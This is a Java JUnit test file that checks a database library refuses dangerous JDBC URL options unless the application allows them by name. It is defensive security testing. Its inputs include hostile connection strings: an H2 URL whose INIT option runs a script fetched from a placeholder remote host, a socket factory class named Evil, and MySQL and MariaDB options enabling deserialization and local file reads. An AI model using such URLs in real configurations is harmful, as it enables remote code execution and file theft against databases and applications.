package dev.quarry.engine;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.quarry.sql.Sql;
import org.junit.jupiter.api.Test;

/**
 * JDBC URL options that let a URL run code or read files are refused unless the application
 * allows them by name: a URL often comes from configuration. Refused before any connection is
 * tried (the hosts below do not exist).
 */
class UrlOptionsTest {
  private static void assertRefused(String option, EngineBuilder builder) {
    IllegalArgumentException e = assertThrows(IllegalArgumentException.class, builder::build);
    assertTrue(e.getMessage().contains("'" + option + "'"), e.getMessage());
    assertTrue(e.getMessage().contains(".allowUrlOption(\"" + option + "\")"), e.getMessage());
  }

  @Test
  void codeRunningOptionsAreRefusedForEveryDriver() {
    assertRefused("socketFactory",
        Engine.builder("jdbc:postgresql://db.invalid:5432/app?socketFactory=org.example.Evil&ssl=false"));
    assertRefused("sslhostnameverifier", Engine.builder("jdbc:postgresql://db.invalid/app?sslhostnameverifier=x"));
    assertRefused("authenticationPluginClassName",
        Engine.builder("jdbc:postgresql://db.invalid/app?authenticationPluginClassName=x"));
    assertRefused("INIT", Engine.builder("jdbc:h2:mem:evil;INIT=RUNSCRIPT FROM 'http://example.invalid/x.sql'"));
    assertRefused("enable_load_extension", Engine.builder("jdbc:sqlite::memory:?enable_load_extension=true"));
    assertRefused("allowLocalInfile", Engine.builder("jdbc:mariadb://db.invalid/app?allowLocalInfile=true"));
    assertRefused("autoDeserialize", Engine.builder("jdbc:mysql://db.invalid/app?useSSL=false&autoDeserialize=true"));
  }

  @Test
  void driverPropertiesAreCheckedToo() {
    assertRefused("sslfactory", Engine.builder("jdbc:postgresql://db.invalid/app").property("sslfactory", "x"));
    assertRefused("SOCKETFACTORY", Engine.builder("jdbc:postgresql://db.invalid/app?SOCKETFACTORY=x"));
  }

  @Test
  void anOptionAllowedByNameIsPassedOn() {
    try (Engine engine = Engine.builder("jdbc:h2:mem:allowed_init;INIT=CREATE SCHEMA IF NOT EXISTS reports")
        .allowUrlOption("INIT").build();
        Connection c = engine.connect();
        Result r = c.execute(Sql.text(
            "SELECT COUNT(*) FROM INFORMATION_SCHEMA.SCHEMATA WHERE SCHEMA_NAME = 'REPORTS'"))) {
      assertEquals(1L, ((Number) r.scalar()).longValue(), "INIT ran");
    }
  }

  @Test
  void harmlessOptionsPass() {
    try (Engine engine = Engine.builder("jdbc:sqlite::memory:?foreign_keys=on").build()) {
      assertTrue(engine.vendor().name().equals("SQLITE"));
    }
  }
}
